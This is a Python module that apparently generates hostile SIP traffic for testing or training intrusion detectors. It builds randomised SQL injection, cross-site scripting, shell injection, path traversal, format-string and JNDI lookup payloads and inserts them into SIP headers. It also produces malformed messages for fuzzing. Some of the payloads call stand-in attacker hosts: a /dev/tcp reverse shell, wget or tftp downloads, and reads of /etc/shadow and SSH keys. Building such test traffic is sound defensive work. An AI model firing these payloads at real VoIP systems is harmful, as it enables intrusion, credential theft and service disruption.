"""Hostile strings and broken grammar by a second author, for text that is already a message.
Relies on: styles.py (random tokens only).
Relied on by: script_attacker.py, spoof_attacker.py, replay_attacker.py, attackers.py; sipp_attacks.py.

mutations.py is the first author, for the raw builder. Nothing is shared with it on purpose: what a detector
learned from one list says little about the other.
"""
import re

import styles

HOSTS = ["evil.example", "203.0.113.66", "198.51.100.7", "cb.attacker.test", "x7.example.net"]


def advertisement(rng):
    """A text that many get."""
    what = rng.choice(
        ["Insurance", "Bitcoin", "Your parcel", "Tax refund", "Solar panels", "Hot singles", "Job offer"]
    )
    how = rng.choice(
        [
            "call %s" % styles.draw_number(rng),
            "see http://%s/%s" % (rng.choice(HOSTS), styles.alnum(rng, 5)),
            "reply STOP to end",
            "press 9 now",
        ]
    )
    return "%s%s %s" % (what, rng.choice([":", " -", "!", "?"]), how)


# -- injection -------------------------------------------------------------------------------------------


def _sql(rng):
    table, n = rng.choice(
        ["sippeers", "ps_auths", "credentials", "voicemail", "v_extensions", "admin"]
    ), rng.randrange(1, 99)
    end = rng.choice(["-- -", "#", "/*", ";#", "--+", ""])
    return (
        rng.choice(["1", "x", "", styles.digits(rng, 4)])
        + rng.choice(["'", '"', "`", "\\'", "')"])
        + rng.choice(
            [
                " OR %d LIKE %d" % (n, n),
                " AND 1=0 UNION SELECT login,passwd,%d FROM %s" % (n, table),
                ";SELECT pg_sleep(%d)" % (n % 9 + 1),
                " UNION ALL SELECT NULL,@@version,NULL",
                ";TRUNCATE %s;" % table,
                " OR EXISTS(SELECT * FROM %s)" % table,
                ";EXEC xp_cmdshell('dir')",
                " AND extractvalue(1,concat(0x7e,(select user())))",
                "||(SELECT secret FROM %s LIMIT 1)||'" % table,
                " WAITFOR DELAY '0:0:%d'" % (n % 9 + 1),
                ";UPDATE %s SET secret='a' WHERE 1" % table,
                " OR 1 GROUP BY id HAVING min(0)",
                " RLIKE (SELECT 1 FROM %s)" % table,
                " INTO OUTFILE '/tmp/%s'" % styles.alnum(rng, 4),
            ]
        )
        + end
    )


def _script(rng):
    host = rng.choice(HOSTS)
    return rng.choice(
        [
            "<script src=//%s/a.js></script>" % host,
            "<img src=//%s/?%d onerror=confirm(1)>" % (host, rng.randrange(99)),
            "<details open ontoggle=prompt(%d)>" % rng.randrange(99),
            "</td><script>location=name</script>",
            "<input autofocus onfocus=eval(atob('YWxlcnQoMSk='))>",
            "<math><mi xlink:href=data:x,<script>1</script>>",
            "'-alert`1`-'",
            "<object data=javascript:alert(%d)>" % rng.randrange(9),
            "<marquee onstart=fetch('//%s')>" % host,
            "&lt;script&gt;document.write(1)&lt;/script&gt;",
            '<ScRiPt\t>top["al"+"ert"](1)</sCrIpT>',
            "<link rel=stylesheet href=//%s/x.css>" % host,
            "<a onmouseover=alert(document.domain)>call</a>",
        ]
    )


def _shell(rng):
    host = rng.choice(HOSTS)
    command = rng.choice(
        [
            "busybox wget %s/bins.sh" % host,
            "whoami",
            "bash -i >& /dev/tcp/%s/4444 0>&1" % host,
            "sleep %d" % rng.randrange(3, 20),
            "tftp -g -r m %s" % host,
            "cat /etc/shadow",
            "python -c 'import os;os.system(\"id\")'",
            "fs_cli -x shutdown",
            "kamctl rm 100",
            "echo %s>>~/.ssh/authorized_keys" % styles.alnum(rng, 12),
            "reboot",
            "ls -la /",
        ]
    )
    left, right = rng.choice(
        [
            ("';", ";'"),
            ("$(", ")"),
            ("`", "`"),
            ("|", "|"),
            ("\n;", ""),
            ("&", "&"),
            ("a;", "#"),
            ("${IFS}&&", ""),
        ]
    )
    return (left + (command.replace(" ", "${IFS}") if rng.random() < 0.3 else command) + right).replace(
        "\n", "%0A"
    )


def _path(rng):
    step = rng.choice(["../", "..%2f", "%2e%2e/", "..;/", "..\\", "/%5c../", "..%00/"])
    return (
        rng.choice(["", "/", "voicemail/", "/tftpboot/"])
        + step * rng.randrange(3, 9)
        + rng.choice(
            [
                "etc/freeswitch/vars.xml",
                "etc/asterisk/manager.conf",
                "root/.ssh/id_rsa",
                "etc/passwd%00.wav",
                "var/log/auth.log",
                "windows/system32/drivers/etc/hosts",
                "opt/kamailio/kamctlrc",
                "SEP001122334455.cnf.xml",
            ]
        )
    )


def _format(rng):
    return rng.choice(["", "A", "id="]) + rng.choice(
        ["%s%n", "%x.", "%08p", "%1$n", "%hhn", "%.1024d", "%c%s", "%lx:"]
    ) * rng.randrange(4, 20)


def _log(rng):
    line = rng.choice(
        [
            "Accepted password for root from %s port 22" % rng.choice(HOSTS),
            "[NOTICE] sofia_reg.c: registered 1000",
            "SECURITY[999] res_security_log.c: SuccessfulAuth",
            "INFO: <script>: auth ok for 100",
            "kernel: panic",
            "From: <sip:admin@localhost>",
            "X-Priority: 1",
        ]
    )
    return (
        styles.alnum(rng, 3)
        + rng.choice(["%0D%0A", "%0a", "\\n", "%c4%8d%c4%8a", "\\u000d\\u000a", "%0d%0a%20"])
        + line
    )


def _word(rng):
    """An identifier that nobody has seen before."""
    syllables = "ab ex in or ul ve ra mo ti ko na sel dat per quo zi lum fer".split()
    return "".join(rng.choice(syllables) for _ in range(rng.randrange(1, 4)))


def _condition(rng, depth=0):
    n, name = rng.randrange(1, 200), _word(rng)
    plain = ["%d=%d" % (n, n), "'%s'='%s'" % (name, name), "%d<%d" % (n, n + 1), "%s IS NOT NULL" % name,
             "%s LIKE '%%%s%%'" % (name, name[:1]), "%d BETWEEN %d AND %d" % (n, n - 1, n + 1)]
    if depth < 2 and rng.random() < 0.3:
        return "(%s) %s %s" % (_condition(rng, depth + 1), rng.choice(["OR", "AND"]), _condition(rng, depth + 1))
    return rng.choice(plain)


def _query(rng):
    """SQL from parts: columns, tables and conditions are drawn."""
    columns = ",".join(rng.choice([_word(rng), "NULL", str(rng.randrange(99))]) for _ in range(rng.randrange(1, 6)))
    select = "SELECT %s FROM %s WHERE %s" % (columns, _word(rng), _condition(rng))
    text = rng.choice(
        [
            "OR %s" % _condition(rng),
            "UNION %s%s" % (rng.choice(["", "ALL "]), select),
            "AND (%s)>%d" % (select, rng.randrange(9)),
            "; INSERT INTO %s VALUES (%d,'%s')" % (_word(rng), rng.randrange(99), _word(rng)),
            "; DELETE FROM %s WHERE %s" % (_word(rng), _condition(rng)),
            "ORDER BY %d" % rng.randrange(1, 60),
            "AND IF(%s,SLEEP(%d),0)" % (_condition(rng), rng.randrange(1, 30)),
        ]
    )
    if rng.random() < 0.5:
        text = "".join(rng.choice([c.lower(), c.upper()]) for c in text) if rng.random() < 0.3 else text.lower()
    blank = rng.choice([" ", " ", " ", "/**/", "+", "%20"])
    start = rng.choice([_word(rng), styles.digits(rng, 3), ""]) + rng.choice(["'", '"', "')", " ", "';"])
    return (start + " " + text + rng.choice(["", " --", "#", "-- " + _word(rng)])).replace(" ", blank)


def _element(rng):
    """An element with a handler, in markup of drawn names."""
    tag, event = rng.choice(["img", "svg", "div", "video", _word(rng)]), rng.choice(["error", "load", "focus", _word(rng)])
    code = rng.choice(["%s(%d)", "%s`%d`", "top.%s(%d)", "%s['%d']()"]) % (_word(rng), rng.randrange(99))
    mark = rng.choice(['"', "'", ""])
    return rng.choice(
        [
            "<%s on%s=%s%s%s>" % (tag, event, mark, code, mark),
            "%s><%s src=x on%s=%s>" % (mark, tag, event, code),
            "<a href=javascript:%s>%s</a>" % (code, _word(rng)),
            "<script>%s</script>" % code,
            "<a HrEf=\"JaVaScRiPt:%s\">X</a>" % code,
        ]
    )


def _expression(rng):
    """What template engines and loggers expand."""
    n, name = rng.randrange(2, 99), _word(rng)
    return rng.choice(
        [
            "{{%d*%d}}" % (n, n),
            "${%s.%s}" % (name, _word(rng)),
            "#{%s}" % name,
            "<%%= %s %%>" % name,
            "${jndi:%s://%s/%s}" % (rng.choice(["ldap", "rmi", "dns"]), rng.choice(HOSTS), name),
            "${${%s:-j}ndi:ldap://%s/%s}" % (name, rng.choice(HOSTS), name),
            "{%% %s %s %%}" % (name, _word(rng)),
        ]
    )


def _pipeline(rng):
    """Commands of drawn programs behind a separator."""
    command = "%s -%s /%s/%s" % (_word(rng), styles.alnum(rng, 1), _word(rng), _word(rng))
    if rng.random() < 0.5:
        command = "%s %s%s" % (rng.choice(["cat", "wget", "nc", "echo", "sh -c"]), rng.choice(["/", "http://", ""]), rng.choice(HOSTS))
    text = rng.choice(["; %s", "|%s", "&& %s", "`%s`", "$(%s)", "|| %s #", "%%3B%s%%3B"]) % command
    return rng.choice(["", _word(rng)]) + (text.replace(" ", "%20") if rng.random() < 0.25 else text)


def _climb(rng):
    """A path upwards to drawn names."""
    step = rng.choice(["../", "..%c0%af", "%2e%2e/", "..%5c", "....//", "..%252f"])
    head = rng.choice(["", "file:///", "/", _word(rng) + "/", "php://filter/resource="])
    return head + step * rng.randrange(1, 12) + rng.choice(["etc/", "var/", ""]) + _word(rng) + rng.choice(["", "/" + _word(rng), ".conf", "%00"])


def _filter(rng):
    """Filters of directories and of document databases."""
    name = _word(rng)
    return rng.choice(
        ["*)(%s=*" % name, "%s)(|(%s=*))" % (name, _word(rng)), '{"$%s":%d}' % (rng.choice(["ne", "gt"]), rng.randrange(9)),
         "' or //%s[%d] or '" % (name, rng.randrange(1, 9)), "[$ne]=%s" % name]
    )


def _either(*makers):
    """One of several generators, drawn anew for each text."""
    return lambda rng: rng.choice(makers)(rng)


KINDS = {
    "sql": _either(_sql, _query),
    "script": _either(_script, _element),
    "shell": _either(_shell, _pipeline),
    "path": _either(_path, _climb),
    "format": _format,
    "log": _log,
    "expression": _either(_expression, _filter),
}


def hostile(rng, kinds=None):
    """A payload of one of `kinds`, or of any."""
    return KINDS[rng.choice([k for k in kinds or KINDS if k in KINDS] or list(KINDS))](rng)


# Where a payload goes. The usual fields, and those that nobody looks at.
PLACES = [
    "From name",
    "From user",
    "To user",
    "uri user",
    "User-Agent",
    "Subject",
    "Contact user",
    "Contact parameter",
    "Reason",
    "P-Asserted-Identity",
    "SDP session",
    "SDP origin",
    "SDP attribute",
    "Call-ID",
    "digest user",
    "digest nonce",
    "Via parameter",
    "Alert-Info",
    "User-to-User",
    "Warning",
    "Call-Info",
    "Diversion",
    "P-Charging-Vector",
    "From parameter",
    "uri parameter",
    "uri header",
    "Content-Disposition",
    "Referred-By",
    "Date",
    "body",
]


def quoted(text):
    return text.replace("\\", "\\\\").replace('"', '\\"')


def escaped(text):
    """As a user part, a parameter's value or a URI's header: what would end it is escaped."""
    return "".join(c if re.match(r"[A-Za-z0-9_.!~*'()&=+$,/?-]", c) else "%%%02X" % ord(c) for c in text)


def token(text):
    """As a word without quotes: only blanks and what ends a parameter are escaped."""
    return "".join("%%%02X" % ord(c) if c in ' \t"<>;,@\\' or ord(c) > 126 else c for c in text)


def header(text, name, change, default=None):
    """Changes the value of a header, in its long or compact form; adds the header with `default` if there is none."""
    short = styles.COMPACT.get(name)
    pattern = re.compile(r"(?im)^((?:%s)[ \t]*:[ \t]*)([^\r\n]*)" % (name + ("|" + short if short else "")))
    if pattern.search(text):
        return pattern.sub(lambda m: m.group(1) + change(m.group(2)), text, count=1)
    first, _, rest = text.partition("\r\n")
    lines = rest.split("\r\n")
    blank = lines.index("") if "" in lines else 0
    at = min(blank, 5)
    return "\r\n".join([first] + lines[:at] + ["%s: %s" % (name, change(default or ""))] + lines[at:])


def _user(value, text):
    return re.sub(r"(sips?:)([^@>;\s]*@)?", lambda m: m.group(1) + text + "@", value, count=1)


def _name(value, text):
    uri = re.search(r"<[^>]*>", value)
    inner, rest = (uri.group(), value[uri.end() :]) if uri else ("<%s>" % value.split(";")[0], "")
    if not uri and ";" in value:
        rest = ";" + value.split(";", 1)[1]
    return '"%s" %s%s' % (quoted(text), inner, rest)


def _start(text, change):
    first, _, rest = text.partition("\r\n")
    method, uri, version = (first.split(" ") + ["", ""])[:3]
    return "%s %s %s\r\n%s" % (method, change(uri), version, rest)


def _sdp(text, change):
    head, _, body = text.partition("\r\n\r\n")
    body = change(body or "v=0\r\no=- 1 1 IN IP4 %s\r\ns=-\r\nt=0 0\r\n" % _host(text))
    head = header(head + "\r\n", "Content-Type", lambda v: "application/sdp").rstrip("\r\n")
    return with_length(head + "\r\n\r\n" + body)


def with_length(text):
    """Content-Length as the body has it."""
    length = len(text.partition("\r\n\r\n")[2].encode("utf-8", "surrogateescape"))
    return header(text, "Content-Length", lambda v: str(length))


def _digest(rng, text, what, payload):
    values = {"username": styles.digits(rng, 3), "nonce": styles.hexes(rng, 24), what: quoted(payload)}
    value = 'Digest username="%s", realm="%s", nonce="%s", uri="sip:%s", response="%s"' % (
        values["username"],
        _host(text),
        values["nonce"],
        _host(text),
        styles.hexes(rng, 32),
    )
    return header(text, "Authorization", lambda v: value)


def _host(text):
    """The domain that the message itself speaks of."""
    found = re.search(r"(?im)^(?:From|f)[ \t]*:[^\r\n]*sips?:(?:[^@>;\s]*@)?(\[[^\]]*\]|[^>;\s:]+)", text)
    return found.group(1) if found else "localhost"


def place(rng, text, payload, where):
    """The message with a payload in one place; its grammar stays whole."""
    word, host = token(payload), _host(text)
    somebody = "sip:%s@%s" % (styles.digits(rng, 3), host)
    if where.endswith(" user") and where != "digest user":
        name, user = where[:-5], escaped(payload) if rng.random() < 0.5 else word
        if name == "uri":
            return _start(text, lambda u: _user(u, user))
        return header(text, name, lambda v: _user(v or "<%s>" % somebody, user))
    if where == "From name":
        return header(text, "From", lambda v: _name(v, payload))
    if where in ("Contact parameter", "From parameter", "Via parameter"):
        return header(
            text,
            where.split(" ")[0],
            lambda v: "%s;%s=%s" % (v, rng.choice(["x", "info", "id", "line"]), word.replace("=", "%3D")),
        )
    if where in ("uri parameter", "uri header"):
        mark = ";x=" if where == "uri parameter" else "?Subject="
        return _start(
            text,
            lambda u: u + mark + escaped(payload).replace("?", "%3F").replace("&", "%26").replace("=", "%3D"),
        )
    if where.startswith("digest "):
        return _digest(rng, text, {"digest user": "username"}.get(where, "nonce"), payload)
    if where == "Call-ID":
        return header(text, "Call-ID", lambda v: word + v)
    if where == "SDP session":
        return _sdp(text, lambda b: re.sub(r"(?m)^s=[^\r\n]*", lambda m: "s=" + payload, b, count=1))
    if where == "SDP origin":
        return _sdp(text, lambda b: re.sub(r"(?m)^o=\S+", lambda m: "o=" + word, b, count=1))
    if where == "SDP attribute":
        return _sdp(text, lambda b: b + "a=%s:%s\r\n" % (rng.choice(["label", "x-info", "tool"]), payload))
    if where == "body":
        head = header(text.partition("\r\n\r\n")[0] + "\r\n", "Content-Type", lambda v: "text/plain").rstrip(
            "\r\n"
        )
        return with_length(head + "\r\n\r\n" + payload)
    value = {
        "Reason": 'Q.850;cause=16;text="%s"' % quoted(payload),
        "P-Asserted-Identity": '"%s" <%s>' % (quoted(payload), somebody),
        "Alert-Info": "<http://%s/%s>" % (host, word),
        "Call-Info": "<http://%s/%s>;purpose=info" % (host, word),
        "Warning": '399 %s "%s"' % (host, quoted(payload)),
        "Diversion": '"%s" <%s>;reason=no-answer' % (quoted(payload), somebody),
        "P-Charging-Vector": "icid-value=%s" % word,
        "Referred-By": '"%s" <%s>' % (quoted(payload), somebody),
        "Content-Disposition": 'render;name="%s"' % quoted(payload),
        "User-to-User": word + ";encoding=hex",
    }.get(where, payload)
    return header(text, where, lambda v: value)


# -- malformed -------------------------------------------------------------------------------------------


def _bytes(change):
    """A breakage of bytes from one of text."""
    return lambda r, t: change(r, t).encode("utf-8", "surrogateescape")


def _flood_of(r, t):
    name = r.choice(["Via", "Route", "Record-Route", "Contact", "From"])
    line = (
        "%s: <sip:%s@x>\r\n" % (name, styles.alnum(r, 4))
        if name != "Via"
        else "Via: SIP/2.0/UDP x;branch=z9hG4bK1\r\n"
    )
    return t.replace("\r\n", "\r\n" + line * r.randrange(60, 200), 1)


def _endless(r, t):
    name, unit = r.choice(["Call-ID", "From", "To", "CSeq", "Via", "Contact"]), r.choice(
        ["9", "A", "%41", "a@", "-", "\t ", "((("]
    )
    return header(t, name, lambda v: v + unit * (r.randrange(600, 4000) // len(unit)))


def _length_lies(r, t):
    return header(
        t,
        "Content-Length",
        lambda v: r.choice(
            [
                "-%d" % r.randrange(1, 999),
                "%d" % r.randrange(5000, 10**6),
                "2147483648",
                "NaN",
                "0 0",
                "1,1",
                "",
                "\u0663",
                "0x10",
                "18446744073709551617",
            ]
        ),
    )


def _no_head(r, t):
    drop = r.sample(["Via|v", "From|f", "To|t", "Call-ID|i", "CSeq"], r.randrange(1, 4))
    return re.sub(r"(?im)^(%s)[ \t]*:[^\r\n]*\r\n" % "|".join(drop), "", t)


def _twice(r, t):
    names = r.sample(["From", "To", "Call-ID", "CSeq"], r.randrange(1, 4))
    extra = "".join(
        "%s: %s\r\n" % (n, r.choice(["x", "<sip:a@b>;tag=1", "2 BYE", styles.alnum(r, 9)])) for n in names
    )
    return t.replace("\r\n", "\r\n" + extra, 1)


def _cseq(r, t):
    return header(
        t,
        "CSeq",
        lambda v: r.choice(
            [
                "%s" % v.split(" ")[-1],
                "-7 " + v.split(" ")[-1],
                "1 ",
                "99999999999 INVITE",
                "1 1 1",
                "one " + v.split(" ")[-1],
                "1;OPTIONS",
                "2 " + styles.alnum(r, 300),
            ]
        ),
    )


def _line_ends(r, t):
    head, _, body = t.partition("\r\n\r\n")
    first, *lines = head.split("\r\n")
    return first + "\r\n" + r.choice(["\r", "\n", "\n\n", "\r\r\n"]).join(lines) + "\r\n\r\n" + body


def _brackets(r, t):
    return header(
        t,
        r.choice(["From", "To", "Contact"]),
        lambda v: r.choice(
            [
                "<" + v.replace(">", ""),
                v.replace("<", "").replace(">", "") + ">",
                v + "<sip:",
                "<<" + v + ">>",
                '"' + v,
                "<>",
                "<sip:>;;;",
            ]
        ),
    )


def _uri(r, t):
    bad = r.choice(
        [
            "sip:[::",
            "sip:@:",
            "sip:%%%@h",
            "sip:a@h:99999",
            "sip:a@h;=",
            "sip:?",
            "sip:a@h@i",
            "sip://a@h",
            "sip:\x7f@h",
            "sip:a@.",
            "sip:" + "%00" * r.randrange(8, 60) + "@h",
            "SIP:" + ";" * r.randrange(20, 300),
        ]
    )
    return (
        _start(t, lambda u: bad)
        if r.random() < 0.5
        else header(t, r.choice(["To", "From"]), lambda v: "<%s>" % bad)
    )


def _version(r, t):
    first, _, rest = t.partition("\r\n")
    return (
        first.rsplit(" ", 1)[0]
        + " "
        + r.choice(["SIP/3.0", "SIP/2.0.1", "SIP/02", "SIP/2,0", "SIP/ 2.0", "SIP/99999999.9"])
        + "\r\n"
        + rest
    )


def _verb(r, t):
    method, rest = t.split(" ", 1)
    return (
        r.choice(
            [
                method * 30,
                method + "\\x00",
                styles.alnum(r, 200),
                method[::-1] * 9,
                "%s%s" % (method, "." * 120),
                "%n%s%n",
            ]
        )
        + " "
        + rest
    )


def _start_line(r, t):
    first, _, rest = t.partition("\r\n")
    return (
        r.choice(
            [
                first + " SIP/2.0",
                first.replace(" ", "  "),
                " ".join(first.split(" ")[::2]) + " SIP/2.0 SIP/2.0",
                first.replace(" SIP", "\tSIP"),
                first.replace("sip:", "sip: "),
            ]
        )
        + "\r\n"
        + rest
    )


def _folding(r, t):
    first, *lines = t.split("\r\n")
    return "\r\n".join([first] + [" " + lines[0]] + lines[1:])


def _no_colons(r, t):
    head, _, body = t.partition("\r\n\r\n")
    first, *lines = head.split("\r\n")
    for i in r.sample(range(len(lines)), min(len(lines), r.randrange(2, 6))):
        lines[i] = lines[i].replace(":", r.choice(["", " ", "="]), 1)
    return "\r\n".join([first] + lines) + "\r\n\r\n" + body


def _via(r, t):
    return header(
        t,
        "Via",
        lambda v: r.choice(
            [
                "SIP/2.0",
                "UDP",
                "SIP/2.0/UDP",
                "SIP/2.0/UDP a b c",
                "SIP/2.0/???? h;branch",
                v.replace("branch=", ""),
                "SIP/2.0/UDP :::::",
                v + "," * r.randrange(9, 400),
            ]
        ),
    )


def _hops(r, t):
    return header(
        t,
        r.choice(["Max-Forwards", "Expires"]),
        lambda v: r.choice(["-70", "many", "70;70", "4294967366", "7e1", "\xb2"]),
    )


def _noise(r, t):
    data = bytearray(t.encode("utf-8", "surrogateescape"))
    start, end = data.find(b"\r\n") + 2, max(data.find(b"\r\n\r\n"), data.find(b"\r\n") + 40)
    for _ in range(r.randrange(12, 60)):
        data[r.randrange(start, min(end, len(data)))] = r.randrange(1, 256)
    return bytes(data)


def _nul(r, t):
    data = t.encode("utf-8", "surrogateescape")
    at = r.randrange(data.find(b"\r\n") + 2, max(data.find(b"\r\n") + 3, data.find(b"\r\n\r\n")))
    return data[:at] + bytes([r.choice([0, 0, 1, 8, 27])]) * r.randrange(1, 40) + data[at:]


def _charset(r, t):
    name = r.choice(["From", "To", "User-Agent", "Contact", "Call-ID"]).encode()
    junk = r.choice([b"\xc0\xaf", b"\xff", b"\xed\xa0\x80", b"\xf8\x88"]) * r.randrange(2, 60)
    return re.sub(
        rb"(?im)^(%s[ \t]*:[ \t]*)" % name,
        lambda m: m.group(1) + junk,
        t.encode("utf-8", "surrogateescape"),
        count=1,
    )


def _ends(r, t):
    data = t.encode("utf-8", "surrogateescape")
    first, end = data.find(b"\r\n") + 2, data.find(b"\r\n\r\n")
    return data[: first + (end - first) * r.randrange(1, 9) // 10]


BROKEN = {
    "many": _bytes(_flood_of),
    "endless": _bytes(_endless),
    "length": _bytes(_length_lies),
    "missing": _bytes(_no_head),
    "twice": _bytes(_twice),
    "cseq": _bytes(_cseq),
    "lines": _bytes(_line_ends),
    "brackets": _bytes(_brackets),
    "uri": _bytes(_uri),
    "version": _bytes(_version),
    "verb": _bytes(_verb),
    "start": _bytes(_start_line),
    "folding": _bytes(_folding),
    "colons": _bytes(_no_colons),
    "via": _bytes(_via),
    "hops": _bytes(_hops),
    "noise": _noise,
    "nul": _nul,
    "charset": _charset,
    "cut": _ends,
}
_LINE = re.compile(rb"[!%'*+\-.0-9A-Z_`a-z~]+[ \t]+[^\r\n]*[^\r\n \t][^\r\n]*[ \t]SIP/")


def broken(rng, text, kinds=None):
    """The bytes of a well-formed message, broken in one or two ways; the first line still tells SIP."""
    plain = text.encode("utf-8", "surrogateescape")
    for _ in range(20):
        kind = rng.choice([k for k in kinds or BROKEN if k in BROKEN] or list(BROKEN))
        data = BROKEN[kind](rng, text)
        if rng.random() < 0.3:
            second = rng.choice([k for k in BROKEN if k != kind])
            data = (
                BROKEN[second](rng, data.decode("utf-8", "surrogateescape")) if b"\r\n\r\n" in data else data
            )
        if data != plain and _LINE.match(data) and len(data) < 9000:
            return data
    return _bytes(_length_lies)(rng, text)
